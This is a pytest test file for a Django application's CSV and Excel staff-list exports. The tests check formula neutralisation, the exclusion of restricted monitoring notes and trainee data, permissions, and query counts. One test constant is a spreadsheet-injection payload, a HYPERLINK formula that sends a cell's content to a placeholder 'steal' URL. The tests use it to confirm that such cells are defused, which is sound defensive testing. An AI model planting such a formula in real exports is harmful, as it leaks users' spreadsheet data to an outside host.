"""Exports of the staff lists: what the list shows, as CSV or Excel, in a fixed number of
queries; no cell a spreadsheet would run as a formula; restricted records left out."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from humanrights.models import MonitoringNote
from tests.elections.factories import BriefingFactory
from tests.factories import ActivityFactory, ParticipantCountFactory
from tests.humanrights.factories import NoteFactory, RecommendationFactory
from tests.training.factories import EnrolmentFactory, SessionFactory, TraineeFactory
from untop.exports import neutralise

FORMULA = '=HYPERLINK("http://example.org/steal?"&A1,"Open")'


def _content(response) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def _csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(_content(response).decode("utf-8-sig"))))


def _xlsx_rows(response) -> list[tuple]:
    workbook = load_workbook(io.BytesIO(_content(response)))
    return [tuple(row) for row in workbook.worksheets[0].iter_rows(values_only=True)]


@pytest.mark.parametrize("value", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\tx", "\rx"])
def test_every_formula_start_is_neutralised(value):
    assert neutralise(value) == "'" + value


def test_numbers_and_plain_text_stay_as_they_are():
    assert neutralise(-5) == -5
    assert neutralise("Seminar") == "Seminar"


def test_the_tracker_export_defuses_formulas_in_csv_and_excel(manager_client):
    RecommendationFactory(text=FORMULA)
    url = reverse("humanrights:tracker")
    rows = _csv_rows(manager_client.get(url, {"export": "csv"}))
    assert rows[1][3] == "'" + FORMULA
    sheet = _xlsx_rows(manager_client.get(url, {"export": "xlsx"}))
    assert sheet[1][3] == "'" + FORMULA  # text in the workbook, not a formula


def test_the_tracker_export_never_carries_a_monitoring_note(manager_client, hr_officer):
    RecommendationFactory(text="Public recommendation")
    NoteFactory(author=hr_officer, topic="Secret visit to a detention centre")
    assert MonitoringNote.objects.exists()
    for kind in ("csv", "xlsx"):
        response = manager_client.get(reverse("humanrights:tracker"), {"export": kind})
        text = str(_xlsx_rows(response)) if kind == "xlsx" else _content(response).decode()
        assert "Public recommendation" in text
        assert "Secret visit" not in text


def test_the_activity_export_defuses_a_formula_title(staff_client):
    ActivityFactory(title=FORMULA)
    sheet = _xlsx_rows(staff_client.get(reverse("programs:activity_list"), {"export": "xlsx"}))
    assert sheet[1][2] == "'" + FORMULA


def test_trainees_are_exported_in_the_columns_of_their_import(manager_client):
    TraineeFactory(family_name="Rahimov", given_name="Rustam", personnel_number="MVD-1")
    rows = _csv_rows(manager_client.get(reverse("training:trainee_list"), {"export": "csv"}))
    assert rows[0][:3] == ["family_name", "given_name", "sex"]
    assert rows[1][:3] == ["Rahimov", "Rustam", "M"]
    assert rows[1][-1] == "MVD-1"


def test_trainees_personal_data_need_view_trainee(client, hr_officer):
    TraineeFactory(family_name="Rahimov")
    client.force_login(hr_officer)
    assert not hr_officer.has_perm("training.view_trainee")
    response = client.get(reverse("training:trainee_list"), {"export": "csv"})
    assert response.status_code == 403


def test_the_session_export_has_head_counts_and_no_names(client, hr_officer):
    session = SessionFactory(activity__title="Cascade course in Khujand")
    EnrolmentFactory(session=session, trainee__family_name="Rahimov")
    client.force_login(hr_officer)  # may see sessions, not trainees
    response = client.get(reverse("training:session_list"), {"export": "csv"})
    content = _content(response).decode()
    assert "Cascade course in Khujand" in content
    assert "Rahimov" not in content


@pytest.mark.parametrize("n", [1, 4])
def test_list_exports_run_a_fixed_number_of_queries(
    manager_client, hr_officer, django_assert_num_queries, n
):
    for _ in range(n):
        activity = ActivityFactory()
        ParticipantCountFactory(activity=activity)
        TraineeFactory()
        EnrolmentFactory()
        RecommendationFactory()
        BriefingFactory()
    pages = {
        # session, user and the second factor (3; the permissions come from the cache),
        # then the rows in one query, or more where the rows carry lists (a
        # recommendation's themes and SDG targets, a briefing's ministry)
        "programs:activity_list": 5,  # and the age bands, which name its columns
        "training:trainee_list": 4,
        "training:session_list": 4,
        "training:course_list": 4,
        "humanrights:tracker": 6,
        "elections:briefing_list": 4,
    }
    # The permissions, read once and kept in the cache; the courses' figures, summed once
    # and kept in the figures cache.
    manager_client.get(reverse("training:course_list"))
    for name, queries in pages.items():
        for kind in ("csv", "xlsx"):
            with django_assert_num_queries(queries):
                response = manager_client.get(reverse(name), {"export": kind})
                _content(response)
            assert response.status_code == 200, name


def test_the_back_office_exports_activities_with_natural_keys(manager_client, centre):
    activity = ActivityFactory(centre=centre, title="Dialogue meeting in Khujand")
    count = ParticipantCountFactory(activity=activity, women=7, men=8)
    fields = ["project", "centre", "type", "title", "category", "women", "men"]
    response = manager_client.post(
        reverse("admin:programs_activity_export"),
        {"format": "0", **{f"activityresource_{name}": "on" for name in fields}},
    )
    assert response.status_code == 200
    rows = _csv_rows(response)
    assert rows[0] == fields
    assert rows[1] == [
        activity.project.code,
        centre.code,
        "meeting",
        "Dialogue meeting in Khujand",
        count.category.code,
        "7",
        "8",
    ]
